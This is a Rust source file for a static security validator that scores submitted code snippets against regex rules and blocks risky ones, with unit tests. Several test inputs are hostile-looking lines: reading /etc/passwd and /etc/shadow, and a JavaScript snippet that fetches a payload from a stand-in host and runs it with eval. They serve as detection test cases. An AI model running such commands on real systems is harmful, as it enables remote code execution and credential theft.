//! Static security screening for submitted code
//!
//! The validator runs a table of language-scoped regex rules over the source
//! before any engine sees it. Each hit becomes a [`SecurityViolation`]; the
//! weights of distinct hits, plus bonuses for dangerous combinations, add up
//! to a 0-10 risk score. A critical hit or a score above the threshold blocks
//! the request. Everything else is reported alongside the result and the code
//! still runs, since false positives must not break legitimate programs.
//!
//! This is a best-effort filter. It does not prove a snippet safe; isolation
//! comes from the engines and the resource governor.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::fmt;

use crate::config::SecurityConfig;
use crate::core_types::{Language, Severity};
use crate::errors::ExecutionError;

mod rules;

use rules::{COMBINATION_BONUSES, DEFAULT_RULES};

pub const MAX_RISK_SCORE: f32 = 10.0;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ThreatCategory {
    DynamicEvaluation,
    Filesystem,
    Process,
    Network,
    Storage,
    GlobalMutation,
    ExternalResource,
}

impl fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let label = match self {
            ThreatCategory::DynamicEvaluation => "dynamic-evaluation",
            ThreatCategory::Filesystem => "filesystem",
            ThreatCategory::Process => "process",
            ThreatCategory::Network => "network",
            ThreatCategory::Storage => "storage",
            ThreatCategory::GlobalMutation => "global-mutation",
            ThreatCategory::ExternalResource => "external-resource",
        };
        f.write_str(label)
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SecurityViolation {
    /// Id of the rule that matched.
    pub pattern: String,
    pub message: String,
    pub severity: Severity,
    pub category: ThreatCategory,
    /// 1-based line of the first match.
    pub line: usize,
}

/// One row of the rule table.
#[derive(Debug, Clone)]
pub struct SecurityRule {
    pub id: String,
    /// Empty means every language.
    pub languages: Vec<Language>,
    pub pattern: Regex,
    pub severity: Severity,
    pub category: ThreatCategory,
    pub weight: f32,
    pub message: String,
}

impl SecurityRule {
    pub fn new(
        id: impl Into<String>,
        languages: &[Language],
        pattern: &str,
        severity: Severity,
        category: ThreatCategory,
        message: impl Into<String>,
    ) -> Result<Self, ExecutionError> {
        let id = id.into();
        let pattern = Regex::new(pattern).map_err(|e| {
            ExecutionError::ConfigError(format!("Invalid pattern for security rule '{}': {}", id, e))
        })?;
        Ok(Self {
            id,
            languages: languages.to_vec(),
            pattern,
            severity,
            category,
            weight: Self::default_weight(severity),
            message: message.into(),
        })
    }

    pub fn with_weight(mut self, weight: f32) -> Self {
        self.weight = weight.clamp(0.0, MAX_RISK_SCORE);
        self
    }

    pub fn applies_to(&self, language: Language) -> bool {
        self.languages.is_empty() || self.languages.contains(&language)
    }

    fn default_weight(severity: Severity) -> f32 {
        match severity {
            Severity::Critical => MAX_RISK_SCORE,
            Severity::High => 3.5,
            Severity::Medium => 2.0,
            Severity::Low => 1.0,
        }
    }
}

/// Outcome of screening one snippet.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct SecurityReport {
    pub violations: Vec<SecurityViolation>,
    pub risk_score: f32,
    pub blocked: bool,
}

impl SecurityReport {
    pub fn is_clean(&self) -> bool {
        self.violations.is_empty()
    }

    /// Short explanation used as the failure message when blocked.
    pub fn block_reason(&self) -> Option<String> {
        if !self.blocked {
            return None;
        }
        if let Some(critical) = self
            .violations
            .iter()
            .find(|v| v.severity == Severity::Critical)
        {
            return Some(format!("{} (line {})", critical.message, critical.line));
        }
        let patterns: Vec<&str> = self.violations.iter().map(|v| v.message.as_str()).collect();
        Some(format!(
            "risk score {:.1} exceeds the allowed threshold ({})",
            self.risk_score,
            patterns.join(", ")
        ))
    }

    pub fn into_error(self) -> Option<ExecutionError> {
        let message = self.block_reason()?;
        Some(ExecutionError::SecurityViolation {
            message,
            risk_score: self.risk_score,
        })
    }
}

pub struct SecurityValidator {
    rules: Vec<SecurityRule>,
    risk_threshold: f32,
}

impl SecurityValidator {
    /// Validator loaded with the built-in rule table and the default threshold.
    pub fn new() -> Self {
        Self::with_threshold(SecurityConfig::default().risk_threshold)
    }

    pub fn from_config(config: &SecurityConfig) -> Self {
        Self::with_threshold(config.risk_threshold)
    }

    pub fn with_threshold(risk_threshold: f32) -> Self {
        let rules = DEFAULT_RULES
            .iter()
            .filter_map(|(id, languages, pattern, severity, category, message)| {
                match SecurityRule::new(*id, languages, pattern, *severity, *category, *message) {
                    Ok(rule) => Some(rule),
                    Err(e) => {
                        log::error!("Skipping built-in security rule: {}", e);
                        None
                    }
                }
            })
            .collect();
        Self {
            rules,
            risk_threshold,
        }
    }

    /// A validator with no rules, for callers that supply their own table.
    pub fn empty(risk_threshold: f32) -> Self {
        Self {
            rules: Vec::new(),
            risk_threshold,
        }
    }

    pub fn add_rule(&mut self, rule: SecurityRule) {
        self.rules.retain(|existing| existing.id != rule.id);
        self.rules.push(rule);
    }

    pub fn with_rule(mut self, rule: SecurityRule) -> Self {
        self.add_rule(rule);
        self
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    pub fn risk_threshold(&self) -> f32 {
        self.risk_threshold
    }

    pub fn validate(&self, code: &str, language: Language) -> SecurityReport {
        let mut violations = Vec::new();
        let mut categories = HashSet::new();
        let mut score = 0.0f32;

        for rule in self.rules.iter().filter(|r| r.applies_to(language)) {
            if let Some(found) = rule.pattern.find(code) {
                let line = code[..found.start()].matches('\n').count() + 1;
                violations.push(SecurityViolation {
                    pattern: rule.id.clone(),
                    message: rule.message.clone(),
                    severity: rule.severity,
                    category: rule.category,
                    line,
                });
                categories.insert(rule.category);
                score += rule.weight;
            }
        }

        for (first, second, bonus) in COMBINATION_BONUSES {
            if categories.contains(first) && categories.contains(second) {
                score += bonus;
            }
        }
        let risk_score = score.min(MAX_RISK_SCORE);

        violations.sort_by(|a, b| a.line.cmp(&b.line).then(b.severity.cmp(&a.severity)));

        let has_critical = violations.iter().any(|v| v.severity == Severity::Critical);
        let blocked = has_critical || risk_score > self.risk_threshold;
        if blocked {
            log::warn!(
                "Blocked {} snippet: risk score {:.1}, {} violation(s)",
                language,
                risk_score,
                violations.len()
            );
        } else if !violations.is_empty() {
            log::debug!(
                "{} snippet has {} non-blocking violation(s), risk score {:.1}",
                language,
                violations.len(),
                risk_score
            );
        }

        SecurityReport {
            violations,
            risk_score,
            blocked,
        }
    }
}

impl Default for SecurityValidator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_rules_compile() {
        let validator = SecurityValidator::new();
        assert_eq!(validator.rule_count(), DEFAULT_RULES.len());
    }

    #[test]
    fn test_clean_code_scores_zero() {
        let validator = SecurityValidator::new();
        let report = validator.validate("import re\npattern = re.compile(r'x')\nprint(1 + 1)", Language::Python);
        assert!(report.is_clean(), "{:?}", report.violations);
        assert_eq!(report.risk_score, 0.0);
        assert!(!report.blocked);
        assert!(report.block_reason().is_none());
    }

    #[test]
    fn test_critical_filesystem_access_blocks() {
        let validator = SecurityValidator::new();
        let report = validator.validate("print('hi')\ndata = open('/etc/passwd').read()", Language::Python);
        assert!(report.blocked);
        assert!(report
            .violations
            .iter()
            .any(|v| v.severity == Severity::Critical && v.category == ThreatCategory::Filesystem));
        assert_eq!(report.violations[0].line, 2);
        assert!(report.block_reason().unwrap().contains("line 2"));
    }

    #[test]
    fn test_eval_plus_network_exceeds_threshold() {
        let validator = SecurityValidator::new();
        let code = "fetch('https://evil.example/payload').then(r => r.text()).then(t => eval(t));";
        let report = validator.validate(code, Language::JavaScript);
        assert!(report.violations.iter().all(|v| v.severity != Severity::Critical));
        assert!(report.risk_score > 7.0, "score was {}", report.risk_score);
        assert!(report.blocked);
        assert!(report.block_reason().unwrap().contains("risk score"));
    }

    #[test]
    fn test_single_medium_pattern_is_reported_not_blocked() {
        let validator = SecurityValidator::new();
        let report = validator.validate("localStorage.setItem('k', 'v');", Language::JavaScript);
        assert_eq!(report.violations.len(), 1);
        assert_eq!(report.violations[0].pattern, "js-storage-access");
        assert!(!report.blocked);
        assert_eq!(report.risk_score, 2.0);
    }

    #[test]
    fn test_rules_are_language_scoped() {
        let validator = SecurityValidator::new();
        // `subprocess` is only dangerous in Python.
        let report = validator.validate("emit('subprocess')", Language::Demo);
        assert!(report.is_clean());

        // Language-agnostic rules apply everywhere.
        let report = validator.validate("emit('/etc/shadow')", Language::Demo);
        assert!(report.blocked);
    }

    #[test]
    fn test_method_named_compile_is_not_eval() {
        let validator = SecurityValidator::new();
        let report = validator.validate("x = 1\nexec('print(1)')", Language::Python);
        assert_eq!(report.violations.len(), 1);
        assert_eq!(report.violations[0].line, 2);

        let report = validator.validate("rx = re.compile('a+')", Language::Python);
        assert!(report.is_clean());
    }

    #[test]
    fn test_score_is_capped() {
        let validator = SecurityValidator::new();
        let code = "import subprocess\nimport ctypes\nos.system('ls')";
        let report = validator.validate(code, Language::Python);
        assert_eq!(report.risk_score, MAX_RISK_SCORE);
    }

    #[test]
    fn test_custom_rule_and_threshold() {
        let rule = SecurityRule::new(
            "demo-sleep",
            &[Language::Demo],
            r"sleep\(\d{5,}\)",
            Severity::Medium,
            ThreatCategory::Process,
            "Very long sleep",
        )
        .unwrap()
        .with_weight(4.0);
        let validator = SecurityValidator::empty(3.0).with_rule(rule);

        let report = validator.validate("sleep(100000)", Language::Demo);
        assert_eq!(report.risk_score, 4.0);
        assert!(report.blocked);
        assert!(matches!(
            report.into_error(),
            Some(ExecutionError::SecurityViolation { risk_score, .. }) if risk_score == 4.0
        ));
    }

    #[test]
    fn test_invalid_rule_pattern_is_config_error() {
        let err = SecurityRule::new("bad", &[], "(", Severity::Low, ThreatCategory::Storage, "x")
            .unwrap_err();
        assert!(matches!(err, ExecutionError::ConfigError(_)));
    }
}
